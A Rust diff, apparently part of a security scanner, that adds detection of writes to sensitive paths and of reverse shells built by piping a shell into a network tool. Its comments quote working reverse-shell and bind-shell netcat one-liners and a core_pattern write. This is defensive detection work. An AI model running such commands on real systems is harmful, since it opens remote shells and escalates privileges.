@@ -86,6 +86,23 @@ fn invocation(exec: &ExecCatalogue, inv: &Invocation, stdin: bool, out: &mut Sig
     for text in plain_args().chain(&inv.redirects) {
         paths(exec, text, out);
     }
+    // `echo '|/tmp/x' > core_pattern`, `... | tee /proc/sys/kernel/core_pattern`: written.
+    let writer = exec.writers.contains(&inv.program);
+    for text in plain_args().filter(|_| writer).chain(&inv.redirects) {
+        written_paths(exec, text, out);
+    }
+    // `cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f`, `nc -l 4444 | sh`: a shell whose
+    // input or output is a network connection.
+    if let Some(next) = &inv.pipes_into {
+        let shell = |p: &str| exec.shells.contains(p);
+        let relay = |p: &str| exec.shell_relays.contains(p);
+        if (shell(&inv.program) && relay(next)) || (relay(&inv.program) && shell(next)) {
+            out.raise(
+                "exec-reverse-shell",
+                format!("{} piped into {next}", describe(inv)),
+            );
+        }
+    }
     if let Some(search) = &exec.credential_search {
         super::search::detect(search, inv, &describe(inv), out);
     }
@@ -198,6 +215,16 @@ fn paths(exec: &ExecCatalogue, text: &str, out: &mut Signals) {
         for idx in exec.path_set.matches(&candidate) {
             if let Some(rule) = exec.path_rules.get(idx) {
                 out.raise(rule, format!("names {candidate}"));
+            }
+        }
+    }
+}
+
+fn written_paths(exec: &ExecCatalogue, text: &str, out: &mut Signals) {
+    for candidate in path_candidates(text) {
+        for idx in exec.write_path_set.matches(&candidate) {
+            if let Some(rule) = exec.write_path_rules.get(idx) {
+                out.raise(rule, format!("writes {candidate}"));
             }
         }
     }
@@ -350,6 +377,9 @@ fn inline_code(exec: &ExecCatalogue, code: &str, out: &mut Signals) {
     paths(exec, code, out);
     if let Some(api) = &exec.kubernetes_api {
         super::kube_api::code_requests(api, code, out);
+    }
+    if let Some(toolkits) = &exec.toolkits {
+        super::toolkit::in_code(toolkits, code, out);
     }
     let what = format!("inline code `{}`", shorten(code, 60));
     for dest in destinations(code, false) {
